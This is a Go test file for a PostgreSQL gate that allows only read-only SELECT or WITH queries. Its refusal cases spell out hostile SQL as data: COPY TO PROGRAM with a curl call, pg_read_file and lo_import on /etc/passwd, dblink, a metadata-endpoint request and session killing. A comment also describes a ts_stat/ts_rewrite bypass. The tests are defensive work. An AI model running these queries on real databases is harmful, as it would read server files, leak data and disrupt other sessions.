package postgres_test

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/appruntime/appruntime/internal/tool/sqlquery"
	"github.com/appruntime/appruntime/internal/tool/sqlquery/postgres"
)

func TestGateAccepts(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		q      string
		params int
	}{
		{"SELECT 1", 0},
		{"select id, name from invoices where status = $1;", 1},
		{"  WITH t AS (SELECT 1 AS x) SELECT x FROM t  ;\n", 0},
		{"WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT i FROM n", 0},
		{"(SELECT 1) UNION (SELECT 2) ORDER BY 1", 0},
		{"SELECT i.id, c.name FROM invoices i JOIN customers c ON c.id = i.customer_id LEFT JOIN lines l USING (invoice_id) WHERE i.total > $2 AND c.region = $1", 2},
		{"SELECT * FROM (SELECT a FROM t) s WHERE a IN (SELECT b FROM u WHERE u.c = $3)", 3},
		{"SELECT 'insert; delete' AS note -- update here\nFROM t", 0},
		{`SELECT "update", "delete" FROM t /* drop table t; */`, 0},
		{"SELECT $$;$$", 0},
		{"SELECT $$ a; DROP TABLE x $$ AS body", 0},
		{"SELECT $tag$ ; $tag$, replace(name, 'a', 'b') FROM t", 0},
		{"SELECT E'it\\'s; insert' FROM t", 0},
		{"SELECT 'it''s; insert' FROM t", 0},
		{"SELECT 1 /* outer /* inner; */ still a comment; */ FROM t", 0},
		{"SELECT count(*), sum(total) FILTER (WHERE paid), now() FROM invoices GROUP BY 1 HAVING count(*) > 1", 0},
		{"SELECT lower(name), coalesce(x, 0), row_number() OVER (PARTITION BY a ORDER BY b) FROM t", 0},
		{"TABLE invoices", 0},
		{"VALUES (1, 'a'), (2, 'b')", 0},
		// What a report is made of: the allow list's families, built-in
		// syntax that is no function call, and pg_catalog-qualified names.
		{"SELECT date_trunc('month', issued) AS m, round(avg(total), 2), percentile_cont(0.5) WITHIN GROUP (ORDER BY total), string_agg(DISTINCT customer, ', ') FROM t GROUP BY 1 ORDER BY 1", 0},
		{"SELECT to_char(paid_at AT TIME ZONE 'UTC', 'YYYY-MM'), extract(year FROM issued), age(now(), issued), coalesce(nullif(trim(name), ''), 'n/a'), greatest(a, b), least(a, b) FROM t", 0},
		{"SELECT substring(name FROM 1 FOR 3), position('a' IN name), upper(left(name, 1)) || lower(substr(name, 2)), length(name), split_part(email, '@', 2), regexp_replace(name, '[0-9]+', '', 'g') FROM t", 0},
		{"SELECT doc->>'a', doc #>> '{b,c}', jsonb_array_length(doc->'items'), jsonb_build_object('n', count(*)), json_agg(x) FROM t GROUP BY doc", 0},
		{"SELECT CAST(total AS numeric(10,2)), total::int, date(paid_at), pg_catalog.lower(name), abs(x) % 7, floor(x / 3.0), ceil(x), lag(total) OVER w FROM t WINDOW w AS (ORDER BY issued)", 0},
		{"SELECT a FROM t WHERE b BETWEEN $1 AND $2 AND c IS NOT NULL AND d LIKE $3 AND e = ANY ($4) AND issued > current_date - interval '30 days'", 4},
		{"SELECT x FROM unnest(ARRAY[1, 2, 3]) AS x, generate_series(1, 3) g", 0},
		{"SELECT * FROM generate_series(1, 10) g", 0},
		{"SELECT jsonb_path_query(doc, '$.a') FROM t", 0},
		{`SELECT "nextval" FROM t`, 0}, // a column named like a function
	} {
		st, err := postgres.Check(tc.q)
		require.NoError(t, err, tc.q)
		require.Equal(t, tc.params, st.Params, tc.q)
	}
}

func TestGateRefuses(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ q, reason string }{
		{"", "is empty"},
		{" ; ", "is empty"},
		{"-- only a comment", "is empty"},
		{"SELECT 1 /* unterminated", "is not valid SQL: unterminated /* comment"},
		{"SELEC 1", "is not valid SQL: syntax error at or near \"SELEC\""},
		{"SELECT 1; DROP TABLE t", "must be one statement: it has 2"},
		{"SELECT 1; SELECT 2", "must be one statement: it has 2"},
		{"DELETE FROM invoices", "must be a SELECT or WITH statement, not DELETE"},
		{"UPDATE t SET a = 1", "must be a SELECT or WITH statement, not UPDATE"},
		{"INSERT INTO t VALUES (1)", "must be a SELECT or WITH statement, not INSERT"},
		{"SELECT * INTO x FROM t", "must be read-only: SELECT … INTO creates a table"},
		{"SELECT * INTO TEMP x FROM t", "SELECT … INTO"},
		{"CREATE TABLE x AS SELECT * FROM t", "not CREATE TABLE AS"},
		{"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "must be read-only: DELETE is not allowed"},
		{"WITH u AS (UPDATE t SET a = 1 RETURNING a) SELECT a FROM u", "must be read-only: UPDATE is not allowed"},
		{"WITH i AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT * FROM i", "must be read-only: INSERT is not allowed"},
		{"WITH a AS (SELECT 1), b AS (WITH c AS (DELETE FROM t RETURNING 1) SELECT * FROM c) SELECT * FROM a, b", "DELETE is not allowed"},
		{"SELECT * FROM t FOR UPDATE", "must be read-only: FOR UPDATE locks rows"},
		{"SELECT * FROM t FOR NO KEY UPDATE", "FOR NO KEY UPDATE locks rows"},
		{"SELECT * FROM t FOR SHARE SKIP LOCKED", "FOR SHARE locks rows"},
		{"SELECT * FROM (SELECT * FROM t FOR KEY SHARE) s", "FOR KEY SHARE locks rows"},
		{"EXPLAIN ANALYZE DELETE FROM t", "must be a SELECT or WITH statement, not EXPLAIN"},
		{"EXPLAIN SELECT 1", "not EXPLAIN"},
		{"COPY t TO PROGRAM 'curl evil'", "must be a SELECT or WITH statement, not COPY"},
		{"COPY (SELECT 1) TO STDOUT", "not COPY"},
		{"SET statement_timeout = 0", "not SET"},
		{"DO $$ BEGIN DELETE FROM t; END $$", "not DO"},
		{"BEGIN", "not a transaction statement"},
		{"CALL p()", "not CALL"},
		{"LOCK TABLE t", "not LOCK"},
		{"NOTIFY c", "not NOTIFY"},
		{"ALTER TABLE t ADD COLUMN x int", "not ALTER TABLE"},
		{"SELECT pg_terminate_backend(1)", "may not call pg_terminate_backend(): it acts on other sessions"},
		{"SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "may not call pg_cancel_backend()"},
		{"SELECT set_config('transaction_read_only', 'off', true)", "may not call set_config(): it changes server settings"},
		{"SELECT pg_catalog.set_config('a', 'b', false)", "may not call pg_catalog.set_config(): it changes server settings"},
		{"SELECT nextval('s')", "may not call nextval(): it changes a sequence"},
		{"SELECT 1 FROM t WHERE a IN (SELECT setval('s', 1))", "may not call setval()"},
		{"SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", "may not call dblink(): it connects from the database server"},
		{"SELECT dblink_exec('host=x', 'DROP TABLE t')", "may not call dblink_exec()"},
		{"SELECT lo_import('/etc/passwd')", "may not call lo_import()"},
		{"SELECT lo_export(1, '/tmp/x')", "may not call lo_export()"},
		{"SELECT pg_advisory_lock(1)", "may not call pg_advisory_lock(): it takes a lock"},
		{"SELECT pg_try_advisory_xact_lock(1)", "may not call pg_try_advisory_xact_lock()"},
		{"SELECT pg_read_file('/etc/passwd')", "may not call pg_read_file(): it reads or writes the database server's files"},
		{"SELECT pg_read_binary_file('x')", "may not call pg_read_binary_file()"},
		{"SELECT * FROM pg_ls_dir('.')", "may not call pg_ls_dir()"},
		{"SELECT pg_sleep(100)", "may not call pg_sleep(): it only holds a connection"},
		{"SELECT pg_notify('c', 'x')", "may not call pg_notify()"},
		{"SELECT txid_current()", "may not call txid_current()"},
		{"SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", "may not call query_to_xml(): it runs SQL text"},
		{"SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "may not call pg_create_logical_replication_slot()"},
		{"SELECT pg_stat_reset()", "may not call pg_stat_reset()"},
		{"SELECT http_get('http://169.254.169.254/')", "may not call http_get()"},
		{`SELECT "PG_SLEEP"(1)`, "may not call PG_SLEEP()"},
		// Issue 23 MEDIUM 1: ts_stat and ts_rewrite run the SQL text of their
		// argument, which the gate never parsed; through them a stored query
		// read files, changed settings, slept, took advisory locks and
		// killed another backend. The allow list refuses every function it
		// does not name, in any schema or spelling.
		{"SELECT * FROM ts_stat($$SELECT pg_catalog.pg_read_file('/etc/passwd')::tsvector$$)", "may not call ts_stat(): it runs the SQL text of its argument"},
		{"SELECT ts_rewrite('a & b'::tsquery, $$SELECT pg_catalog.pg_terminate_backend(1)::text::tsquery, 'c'::tsquery$$)", "may not call ts_rewrite()"},
		{"SELECT pg_catalog.ts_stat('SELECT 1')", "may not call pg_catalog.ts_stat()"},
		{"SELECT pg_catalog.pg_read_file('/etc/passwd')", "may not call pg_catalog.pg_read_file(): it reads or writes the database server's files"},
		{"SELECT pg_catalog.pg_sleep(10)", "may not call pg_catalog.pg_sleep()"},
		{"SELECT pg_catalog.pg_advisory_lock(1)", "may not call pg_catalog.pg_advisory_lock()"},
		{"SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity", "may not call pg_catalog.pg_terminate_backend()"},
		{`SELECT "pg_catalog"."pg_sleep"(1)`, "may not call pg_catalog.pg_sleep()"},
		{`SELECT "set_config"('a', 'b', false)`, "may not call set_config()"},
		{"SELECT current_setting('data_directory')", "may not call current_setting(): it is not one of the functions a read-only report may call"},
		{"SELECT xpath('/a', '<a/>'::xml)", "may not call xpath(): it is not one of"},
		{"SELECT currval('s')", "may not call currval(): it is not one of"},
		{"SELECT public.lower(name) FROM t", "may not call public.lower(): only built-in functions (unqualified or in pg_catalog) are allowed"},
		{"SELECT mydb.pg_catalog.lower(name) FROM t", "may not call mydb.pg_catalog.lower(): only built-in functions"},
		{`SELECT "Lower"(name) FROM t`, "may not call Lower(): it is not one of"},
		{"SELECT * FROM my_report_function()", "may not call my_report_function(): it is not one of"},
		// A denied call hidden deep in the tree is found all the same.
		{"SELECT CASE WHEN a > 0 THEN (SELECT max(x) FROM u WHERE u.y = coalesce(pg_sleep(1)::text, '')) END FROM t", "may not call pg_sleep()"},
		{"SELECT * FROM t ORDER BY nextval('s')", "may not call nextval()"},
		{"SELECT * FROM t, LATERAL (SELECT set_config('a', 'b', true)) s", "may not call set_config()"},
		{"SELECT array_agg(x ORDER BY pg_advisory_lock(1)) FROM t", "may not call pg_advisory_lock()"},
		{"SELECT 1 WHERE EXISTS (SELECT 1 FROM t GROUP BY 1 HAVING sum(lo_unlink(1)) > 0)", "may not call lo_unlink()"},
	} {
		_, err := postgres.Check(tc.q)
		require.Error(t, err, tc.q)
		var refused *sqlquery.Refused
		require.ErrorAs(t, err, &refused, tc.q)
		require.Contains(t, refused.Reason, tc.reason, tc.q)
	}
}

func FuzzGate(f *testing.F) {
	for _, q := range []string{"SELECT 1", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "SELECT $$;$$", "SELECT 1; DROP TABLE t"} {
		f.Add(q)
	}
	f.Fuzz(func(t *testing.T, q string) {
		// Whatever the input, the gate answers without panicking, and what it
		// lets through parses as exactly one SELECT.
		if _, err := postgres.Check(q); err != nil {
			var refused *sqlquery.Refused
			require.ErrorAs(t, err, &refused)
		}
	})
}
